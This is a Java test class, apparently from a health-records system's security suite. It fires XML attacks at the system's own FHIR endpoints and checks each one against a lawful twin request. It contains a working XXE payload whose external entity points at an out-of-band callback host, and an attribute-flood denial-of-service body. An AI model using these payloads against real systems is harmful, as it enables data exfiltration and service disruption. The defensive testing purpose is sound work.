package health.mizan.attacks;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import health.mizan.testing.RawHttp.Answer;
import java.io.IOException;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** XML that makes its reader fetch, expand or choke. */
final class XmlAttacks implements Surface {

    private static final String XML = "application/fhir+xml";

    @Override
    public String name() {
        return "XML";
    }

    @Override
    public void bind(Bindings to) {
        to.live("XM-003", "on a Patient");
        to.live("XM-009", "on a Patient");
        to.live("XM-012", "a Patient in UTF-16, said and unsaid", attack -> {
            byte[] body = """
                    <?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "%s/e">]>
                    <Patient xmlns="http://hl7.org/fhir"><name><family value="&x;EXPANDED"/></name></Patient>
                    """.formatted(attack.fill("{oob}")).strip().getBytes(UTF_16);
            attack.send(attack.shot().body(XML, body));
            attack.send(attack.shot().body(XML + "; charset=UTF-16", body));
        });
        to.live("XM-015", "on a Patient", attack -> {
            String attributes = IntStream.range(0, 100_000)
                    .mapToObj(i -> "a" + i + "=\"1\"")
                    .collect(Collectors.joining(" "));
            attack.send(attack.shot()
                    .body(XML, ("<Patient xmlns=\"http://hl7.org/fhir\" " + attributes + "/>").getBytes(UTF_8)));
        });
        to.live("XM-017", "on a Patient", attack -> {
            Answer answer = attack.asWritten();
            assertThat(answer.text()).doesNotContain("<script");
        });
        to.live("XM-024", "no e-invoice is taken in: told as FHIR and at the invoices' address it is none", attack -> {
            byte[] invoice = """
                    <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><UUID>%s</UUID></Invoice>
                    """.formatted(attack.clinic().id("inv.A")).getBytes(UTF_8);
            attack.alsoAccepts(405, "bills are not sent to us")
                    .alsoAccepts(415, "nothing here takes such a body")
                    .alsoAccepts(403, "nothing of the kind is open to it");
            for (String door :
                    new String[] {"/fhir/Invoice", "/fhir/Patient", "/api/invoices", "/api/imports/invoices"}) {
                attack.send(
                        new Shot("POST", door).body("application/xml", invoice).as(attack.token("emrClientF1")));
            }
        });
    }

    @Override
    public String twin() {
        return "an EMR creates a patient in XML";
    }

    @Override
    public void runTwin(Attack lawful) throws IOException {
        String patient = """
                <Patient xmlns="http://hl7.org/fhir"><identifier><system value="https://emr.example.org/Patient"/>
                <value value="%s"/></identifier><name><family value="Lawful"/><given value="Xena"/></name>
                <gender value="female"/><birthDate value="1985-03-12"/></Patient>
                """.formatted(lawful.fill("{uuid}"));
        assertThat(lawful.send(new Shot("POST", "/fhir/Patient")
                                .body(XML, patient.getBytes(UTF_8))
                                .as(lawful.token("emrClientF1")))
                        .status())
                .isEqualTo(201);
    }
}
